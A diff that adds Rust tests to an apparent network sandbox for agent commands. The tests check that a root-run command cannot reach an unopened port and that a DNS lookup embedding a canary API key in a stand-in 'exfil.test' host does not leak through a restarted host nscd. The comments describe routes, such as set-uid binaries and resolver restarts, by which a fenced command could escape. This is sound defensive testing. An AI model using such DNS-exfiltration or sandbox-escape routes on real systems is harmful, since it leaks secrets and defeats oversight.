@@ -716,3 +716,177 @@ fn an_answer_naming_another_address_of_the_host_is_not_installed() {
         show(&out)
     );
 }
+
+/// exec fences "one command", but takes any guard-mode policy, one with a `scope:` too: then
+/// its table fences only the scope's sockets (`meta skuid`), and CMD run as a user the scope
+/// does not list (`--user root`, or a set-uid program CMD runs) is not fenced at all in the
+/// run's namespace, which pasta connects to the host's network: it reached a port the policy
+/// does not open. An operator who reuses the host's policy (`scope: users: [agent]`) for
+/// `exec --user root` (or for an agent that finds a set-uid binary) gets no fence and no
+/// word of it. exec must refuse a policy with a scope (the whole namespace is CMD's).
+#[test]
+fn a_scoped_policy_does_not_leave_cmd_unfenced() {
+    let w = World::new();
+    setup(&w);
+    let text = format!("{}scope:\n  users: [65534]\n", policy_text());
+    let policy = w.write_file("scoped.yaml", &text);
+    let listener = w.listen_tcp(HOST_V4, OTHER_PORT);
+    let script = format!(
+        "python3 -c \"
+import socket
+try:
+    s = socket.create_connection(('{HOST_V4}', {OTHER_PORT}), timeout=3)
+    s.sendall(b'SECRET from an unfenced CMD')
+    print('connected')
+except OSError as e:
+    print('refused', e)
+\"; exit 0"
+    );
+    let out = exec(
+        &w,
+        policy.to_str().expect("utf-8 path"),
+        &["--user", "root"],
+        &script,
+    );
+    listener.wait_for(1, std::time::Duration::from_secs(1));
+    let hits: Vec<String> = listener
+        .hits()
+        .iter()
+        .map(|h| String::from_utf8_lossy(&h.data).into_owned())
+        .collect();
+    assert!(
+        hits.is_empty(),
+        "CMD reached a port the policy does not open: {hits:?}\n{}",
+        show(&out)
+    );
+}
+
+/// exec hides the host's resolvers' sockets by binding /dev/null over each socket file that
+/// exists when CMD starts. A daemon that restarts meanwhile (an upgrade restarting nscd or
+/// systemd-resolved, NetworkManager restarting its dnsmasq) removes its socket and binds a new
+/// one: removing a name that is a mount point in another mount namespace is allowed, and
+/// detaches that namespace's mount (Linux 3.18), so the new socket is in CMD's /run,
+/// unhidden, and glibc asks it again: CMD's question left through the host's nscd, past the
+/// guard and the canary, for the rest of the run. The same for a resolver that starts after
+/// exec. The directory must be hidden (an empty tmpfs over it), not the file.
+#[test]
+fn a_restarted_hosts_nscd_is_still_hidden_from_cmd() {
+    use std::process::Command;
+    let w = World::new();
+    let policy = setup(&w);
+    let nscd = w.write_file("fake_nscd.py", FAKE_NSCD);
+    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
+    let inner = exec_command(
+        &w,
+        &policy,
+        &["--user", "nobody", "--canary"],
+        "sleep 4; getent ahosts \"$CANARY_API_KEY.exfil.test\" >/dev/null; \
+         echo \"getent=$?\"; exit 0",
+    );
+    let outer = format!(
+        r#"set -e
+mount --rbind /run "$D/run"
+mount -t tmpfs tmpfs /run
+mkdir /run/netns /run/nscd
+mount --rbind "$D/run/netns" /run/netns
+ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} > "$D/nscd.log" 2>&1 &
+P=$!
+for i in $(seq 100); do test -S /run/nscd/socket && break; sleep 0.05; done
+test -S /run/nscd/socket
+set +e
+"$@" &
+E=$!
+sleep 2
+kill $P; wait $P; rm -f /run/nscd/socket
+ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} >> "$D/nscd.log" 2>&1 &
+P=$!
+trap "kill $P" EXIT
+wait $E"#
+    );
+    let mut cmd = Command::new("unshare");
+    cmd.args(["-m", "--propagation", "private", "sh", "-c", &outer, "sh"])
+        .arg(inner.get_program())
+        .args(inner.get_args())
+        .env("D", w.dir())
+        .env("SB", w.sandbox_name())
+        .env("NSCD", &nscd)
+        .stdin(std::process::Stdio::null());
+    for (key, value) in inner.get_envs() {
+        match value {
+            Some(value) => cmd.env(key, value),
+            None => cmd.env_remove(key),
+        };
+    }
+    let out = cmd.output().expect("run exec beside a host's nscd");
+    let nscd_log = std::fs::read_to_string(w.dir().join("nscd.log")).unwrap_or_default();
+    let shown = format!("{}\n--- nscd ---\n{nscd_log}", show(&out));
+    assert!(stdout_of(&out).contains("getent="), "{shown}");
+    let leaked: Vec<String> = w
+        .dns_queries()
+        .into_iter()
+        .filter(|n| n.to_ascii_lowercase().starts_with("ck_live_"))
+        .collect();
+    assert!(
+        leaked.is_empty(),
+        "CMD's question left through the restarted host's nscd: {leaked:?}\n{shown}"
+    );
+    assert_eq!(out.status.code(), Some(99), "{shown}");
+}
+
+/// The hiding of systemd-resolved's directory (an empty tmpfs over /run/systemd/resolve)
+/// must not take CMD's resolv.conf with it where /etc/resolv.conf is resolved's link to
+/// `stub-resolv.conf` (Ubuntu's, Fedora's default): the guard's resolv.conf is bound where
+/// the link points, and CMD's names still resolve through the guard.
+#[test]
+fn cmd_resolves_through_the_guard_where_resolv_conf_links_into_resolveds_directory() {
+    use std::process::Command;
+    let w = World::new();
+    let policy = setup(&w);
+    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
+    let inner = exec_command(
+        &w,
+        &policy,
+        &["--user", "nobody"],
+        &format!(
+            "cat /etc/resolv.conf; getent ahosts {ALLOWED} | head -1; \
+             ls /run/systemd/resolve; exit 0"
+        ),
+    );
+    let outer = r#"set -e
+mount --rbind /run "$D/run"
+mount -t tmpfs tmpfs /run
+mkdir -p /run/netns /run/systemd/resolve
+mount --rbind "$D/run/netns" /run/netns
+echo "nameserver 127.0.0.99" > /run/systemd/resolve/stub-resolv.conf
+echo "nameserver 192.0.2.53" > /run/systemd/resolve/resolv.conf
+cp -a /etc "$D/etc"
+rm -f "$D/etc/resolv.conf"
+ln -s ../run/systemd/resolve/stub-resolv.conf "$D/etc/resolv.conf"
+mount --bind "$D/etc" /etc
+set +e
+"$@""#;
+    let mut cmd = Command::new("unshare");
+    cmd.args(["-m", "--propagation", "private", "sh", "-c", outer, "sh"])
+        .arg(inner.get_program())
+        .args(inner.get_args())
+        .env("D", w.dir())
+        .stdin(std::process::Stdio::null());
+    for (key, value) in inner.get_envs() {
+        match value {
+            Some(value) => cmd.env(key, value),
+            None => cmd.env_remove(key),
+        };
+    }
+    let out = cmd
+        .output()
+        .expect("run exec beside a host's systemd-resolved");
+    eprintln!("{}", show(&out));
+    let text = stdout_of(&out);
+    assert!(
+        text.contains(&format!("nameserver {}", GUARD_ADDR.ip())),
+        "{}",
+        show(&out)
+    );
+    assert!(text.contains(&HOST_V4.to_string()), "{}", show(&out));
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+}
